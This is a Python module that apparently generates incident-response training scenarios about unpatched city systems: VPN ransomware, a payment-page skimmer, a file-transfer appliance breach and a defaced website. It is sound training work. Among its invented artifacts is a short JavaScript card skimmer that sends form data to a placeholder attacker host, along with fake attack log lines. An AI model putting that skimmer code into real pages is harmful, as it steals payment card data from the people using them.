"""Unpatched-system stories: the guide's second common violation, "unpatched systems exploited to
access city services" (East Independence guide, "Common Violations and Typical Responses").

An exploited system means someone broke in, so criminal activity is always suspected here."""

from __future__ import annotations

from ..draft import artifact
from .story import Story


def _run_by(x, what: str) -> str:
    return x.t(f"$vendor runs {what} for the city under contract." if x.c.vendor else f"{what[:1].upper()}{what[1:]} is run by the city's own staff in $the_dept.")


# --- ransomware through an old VPN appliance ---------------------------------------------------


def _vpn_discover(x) -> dict:
    holds = ("The server also holds the utility-assistance applications, with names and Social Security numbers."
             if x.c.residents else "The server holds work orders, crew schedules and maps.")
    body = x.t(
        """
        The endpoint alert reached the on-call phone at [[found]]:

        Files on $host are being renamed to *.locked, thousands a minute, and a text file named
        RESTORE_FILES.txt has appeared in every folder. $holds $run

        The VPN appliance's admin page shows firmware fourteen months old; its maker's advisory
        for the flaw it has was published in the spring. A VPN session from $attacker has been
        open since 02:10.
        """, holds=holds, run=_run_by(x, "the VPN appliance"))
    log = x.t(
        """
        [[pre:-2]]  EDR  $host  mass rename  *.docx -> *.locked  (3,400/min)
        [[pre:-1]]  VPN  session user=svc-backup  src=$attacker  since 02:10
        """)
    return {
        "title": "Files turning into .locked",
        "sender": "Endpoint alert, forwarded by {{staff:oncall}}, on-call technician",
        "channel": "log",
        "body": body,
        "artifacts": [artifact("log", "Endpoint and VPN alerts", log),
                      artifact("document", "RESTORE_FILES.txt (as found)",
                               "Your files are encrypted. We also have copies. Write to the address below within 72 hours.")],
        "question": x.t("You are the on-call lead for $the_dept. What do you do first?"),
    }


def _vpn_spread(x) -> dict:
    return {
        "title": "The renames have spread",
        "sender": "Endpoint alert",
        "channel": "log",
        "body": x.t("A second server, {{hostname:second}}, has started renaming files, and the VPN session from $attacker is still open."),
        "artifacts": [artifact("log", "Endpoint alerts", "[[ts:-1]]  EDR  {{hostname:second}}  mass rename  (2,100/min)")],
    }


def _vpn_crime(x, subtle: bool) -> dict:
    if subtle:
        return {"sign": x.t("The VPN logs are attached. Nobody on the crews was working at 02:10."),
                "artifact": artifact("log", "VPN appliance log", "02:10:44  AUTH BYPASS?  /remote/login  user=svc-backup  src={{external_ip:attacker}}\n"
                                     "02:11:02  SESSION OPEN  svc-backup  src={{external_ip:attacker}}\n"
                                     "03:40:19  OUTBOUND 4.1 GB  {{hostname:" + x.story.host + "}} -> {{external_ip:attacker}}")}
    return {"sign": x.t("The ransom note says the files were copied out before they were encrypted, and the firewall shows 4 GB sent to $attacker overnight."),
            "artifact": artifact("log", "Firewall", "03:40:19  OUTBOUND 4.1 GB  -> {{external_ip:attacker}}")}


VPN = Story(
    id="vpn-ransomware",
    violation="unpatched-system",
    title="Ransomware Through the Old VPN",
    system="the work-order file server",
    data="work orders and the utility-assistance applications with names and Social Security numbers",
    data_none="work orders, crew schedules and maps, with no residents' personal information",
    host="files",
    departments=("Public Works", "Water Department"),
    criminal=True, vendor=None, personal=None, encryptable=False, server=True,
    restore="the work-order file server",
    contain="disconnect $host from the network at the switch and end the VPN session, leaving the server powered on",
    leave="Keep $host online so the crews can still print today's work orders, and deal with it tonight.",
    leave_subtle="Block the one VPN account but keep $host on the network so the crews can work, and watch it.",
    wipe="Reimage $host from the standard build right now, before the encryption reaches more files.",
    credential="the VPN service account svc-backup's password has not been changed since the appliance was installed, and it works for the file server too",
    no_crime="",
    vendor_role="runs the VPN appliance",
    discover=_vpn_discover, spread=_vpn_spread, crime=_vpn_crime,
    crime_at_discovery=True,
)


# --- a card skimmer on a payment page ----------------------------------------------------------


def _skim_discover(x) -> dict:
    who = "$vendor's file-integrity monitor" if x.c.vendor else "the web team's file-integrity monitor"
    body = x.t(
        """
        An alert from $who at [[found]]: the checkout script on the city's payment portal
        ($host) was changed overnight. Someone appended lines that copy the card form (name,
        number, expiry, security code) and send it to $attacker.

        The web framework's security update from an advisory seven weeks ago was never applied
        on this host. $run The portal is still taking payments.
        """, who=x.t(who), run=_run_by(x, "the payment portal"))
    code = x.t(
        """
        // appended after the last line of checkout.js
        document.querySelector('#pay').addEventListener('click', function () {
          var d = [f.name.value, f.cc.value, f.exp.value, f.cvv.value].join('|');
          navigator.sendBeacon('https://$attacker/collect', btoa(d));
        });
        """)
    return {
        "title": "The checkout page was changed",
        "sender": "{{staff:webteam}}, web team" if not x.c.vendor else "{{staff:vendorlead}}, {{vendor:main}}",
        "channel": "email",
        "subject": x.t("URGENT: checkout.js modified on $host"),
        "body": body,
        "artifacts": [artifact("document", "Lines appended to checkout.js (as found)", code),
                      artifact("log", "Patch status", x.t("$host  web framework security update (7 weeks old) ... NOT APPLIED"))],
        "question": x.t("You are $role. What happens in the next ten minutes?"),
    }


def _skim_spread(x) -> dict:
    return {
        "title": "More cards go out",
        "sender": "Firewall, outbound",
        "channel": "log",
        "body": x.t("Every checkout since the alert has sent another card to $attacker. Two residents have called the billing line about fraudulent charges."),
        "artifacts": [artifact("log", "Firewall, outbound from " + x.vars["host"], "[[ts:-4]]  ALLOW  {{ip:pay}} -> {{external_ip:attacker}}:443  POST /collect\n"
                               "[[ts:-2]]  ALLOW  {{ip:pay}} -> {{external_ip:attacker}}:443  POST /collect")],
    }


def _skim_crime(x, subtle: bool) -> dict:
    if subtle:
        return {"sign": x.t("The web server log is attached: the first change was to a bundled library file three nights ago, not the checkout script."),
                "artifact": artifact("log", "Web server log", "(3 nights ago) 01:37:12  POST /admin/upload  200  src={{external_ip:attacker}}  file=lib/vendor.min.js")}
    return {"sign": x.t("Banks have started reporting fraud on cards used at the portal, and the outside address that collected them belongs to a known fraud operation."),
            "artifact": artifact("email", "A bank's fraud team", "Several cards used at your payment portal were used fraudulently within hours. Please call us.")}


SKIM = Story(
    id="payment-skimmer",
    violation="unpatched-system",
    title="A Skimmer on the Payment Portal",
    system="the online payment portal",
    data="card numbers with expiry dates and security codes, entered by residents paying online",
    data_none="",
    host="pay",
    departments=("Finance", "Utilities Billing", "Municipal Court"),
    criminal=True, vendor=None, personal=True, encryptable=False, server=True,
    restore="the online payment portal",
    contain="take the checkout off the internet and block its outbound traffic at the firewall, leaving the server running",
    leave="Keep the portal taking payments until month-end, with a monitoring rule on the outbound address.",
    leave_subtle="Block the one outbound address at the firewall and keep the portal taking payments.",
    wipe="Restore checkout.js from the release copy and apply the missing update now, so it's fixed before anyone asks.",
    credential="the portal's admin upload page accepted the attacker's file, and its admin password is shared by four people",
    no_crime="",
    vendor_role="hosts and runs the payment portal",
    discover=_skim_discover, spread=_skim_spread, crime=_skim_crime,
    crime_at_discovery=True, vendor_finds=True,
)


# --- a file-transfer appliance -----------------------------------------------------------------


def _mft_discover(x) -> dict:
    holds = x.t("$data")
    enc = ""
    if x.c.encrypted:
        enc = ("The files are encrypted at rest, but the appliance keeps its encryption key in the same folder the attacker listed."
               if x.c.key_taken else "The files are encrypted at rest with a key held in the city's key vault, not on the appliance.")
    body = x.t(
        """
        Ticket $ticket at [[found]]: the maker of the city's file-transfer appliance ($host)
        has published an urgent advisory for a flaw that lets anyone on the internet download
        files. The appliance has not been updated since last year. Its log shows requests to the
        flaw's path from $attacker last night. The appliance moves $holds. $run $enc
        """, holds=holds, enc=enc, run=_run_by(x, "the file-transfer appliance"))
    log = x.t(
        """
        (last night) 01:12:09  GET /human.aspx?arg=..  200  src=$attacker
        (last night) 01:14:40  DOWNLOAD  /files/outbound/*  count=318  src=$attacker
        """)
    return {
        "title": "An advisory, and requests in the log",
        "sender": "Ticket queue",
        "channel": "ticket",
        "subject": x.t("$ticket File-transfer appliance advisory"),
        "body": body,
        "artifacts": [artifact("log", x.t("$host access log (excerpt)"), log)],
        "question": x.t("You are $role. What do you do first?"),
    }


def _mft_spread(x) -> dict:
    return {
        "title": "Another download",
        "sender": "Appliance log",
        "channel": "log",
        "body": x.t("The appliance is still reachable from the internet. Another batch of downloads came from a second address."),
        "artifacts": [artifact("log", "Access log", "[[ts:-2]]  DOWNLOAD  /files/outbound/*  count=96  src={{external_ip:second}}")],
    }


def _mft_crime(x, subtle: bool) -> dict:
    if subtle:
        return {"sign": "The access log is attached. The city's own transfers come from two known partner addresses.",
                "artifact": artifact("log", "Access log", "(last night) 01:14:40  DOWNLOAD  count=318  src={{external_ip:attacker}}  agent=python-requests")}
    return {"sign": x.t("A data-leak site lists the city by name, with a sample of the downloaded files."),
            "artifact": artifact("document", "Leak-site listing (screenshot)", "CITY OF " + x.vars["city"].upper() + ": 318 files. Sample below. Pay or we publish.")}


MFT = Story(
    id="file-transfer",
    violation="unpatched-system",
    title="The File-Transfer Appliance Nobody Updated",
    system="the file-transfer appliance",
    data="benefit files with residents' names and Social Security numbers",
    by_department={
        "Human Resources": {"data": "benefit enrolment files with employees' and their dependants' names and Social Security numbers"},
        "Finance": {"data": "tax-refund payee files with residents' names and Social Security numbers"},
        "Health Department": {"data": "assistance-program files with residents' names and Social Security numbers"},
    },
    data_none="payroll batch files and vendor invoices, with no residents' personal information",
    host="mft",
    departments=("Human Resources", "Finance", "Health Department"),
    criminal=True, vendor=None, personal=None, encryptable=True, server=True,
    restore="the file-transfer service",
    contain="take $host off the internet at the firewall and keep it powered on",
    leave="Keep $host online: the payroll transfer runs tonight, and the advisory may not apply to our version.",
    leave_subtle="Apply the vendor's temporary workaround and keep $host online for tonight's transfers.",
    wipe="Reinstall $host on the new version tonight so the flaw is gone.",
    credential="the appliance's admin password and the partners' transfer keys are stored on it, where the attacker could read them",
    no_crime="",
    vendor_role="runs the file-transfer appliance",
    discover=_mft_discover, spread=_mft_spread, crime=_mft_crime,
)


# --- the city website's outdated plugin --------------------------------------------------------


def _cms_discover(x) -> dict:
    holds = ("the service-request forms, which ask for names, addresses and driver's licence numbers for permits"
             if x.c.residents else "the service-request forms, which hold names and street addresses only")
    body = x.t(
        """
        From: {{resident:caller}}
        Sent: [[found]]

        Your city website's home page now says "HACKED" in red and links somewhere strange. I
        was trying to pay a parking ticket.

        ---

        The website's admin panel shows a new administrator account created overnight. The
        site's events plugin is three major versions behind, and the version in use has a
        published flaw. The site's database holds $holds. $run
        """, holds=holds, run=_run_by(x, "the city website"))
    log = x.t(
        """
        (overnight) 03:12:55  POST /wp-content/plugins/events/upload.php  200  src=$attacker
        (overnight) 03:13:40  USER CREATED  site-maint  role=administrator
        """)
    return {
        "title": "The city website says HACKED",
        "sender": "{{resident:caller}}, by the website's contact form",
        "channel": "email",
        "body": body,
        "artifacts": [artifact("log", "Website server log (excerpt)", log)],
        "question": x.t("You are $role. What do you do first?"),
    }


def _cms_spread(x) -> dict:
    return {
        "title": "The site now serves malware",
        "sender": "{{staff:webteam}}, web team",
        "channel": "email",
        "body": "Residents report that the defaced page now tries to download a file to their computers.",
        "artifacts": [artifact("log", "Server log", "[[ts:-2]]  GET /update.exe  200  (312 downloads since [[found]])")],
    }


def _cms_crime(x, subtle: bool) -> dict:
    if subtle:
        return {"sign": "The database log is attached. The site's own pages only ever read single forms.",
                "artifact": artifact("log", "Database log", "(overnight) 03:20:02  SELECT * FROM service_requests  rows={{records}}  user=site-maint")}
    return {"sign": x.t("The new admin account dumped the service-request table, and a post on a hacking forum boasts about it."),
            "artifact": artifact("document", "Forum post (screenshot)", "owned the city site lol, got their request db too")}


CMS = Story(
    id="cms-plugin",
    violation="unpatched-system",
    title="Defaced Through an Old Plugin",
    system="the city website",
    data="service-request forms with residents' names, addresses and driver's licence numbers",
    data_none="service-request forms with names and street addresses only",
    host="web",
    departments=("City Clerk", "Public Works", "Licensing and Permits"),
    criminal=True, vendor=None, personal=None, encryptable=False, server=True,
    restore="the city website",
    contain="take the website off the internet (a holding page from another server) and keep $host running",
    leave="Put the old home page back and leave the site up; residents need to pay tickets.",
    leave_subtle="Delete the defacement and the new admin account, and leave the site up.",
    wipe="Reinstall the website from the hosting template tonight so it's clean by morning.",
    credential="the site's admin accounts all share one password, and the attacker's new account is still active",
    no_crime="",
    vendor_role="hosts the city website",
    discover=_cms_discover, spread=_cms_spread, crime=_cms_crime,
    crime_at_discovery=True,
)

STORIES = (VPN, SKIM, MFT, CMS)
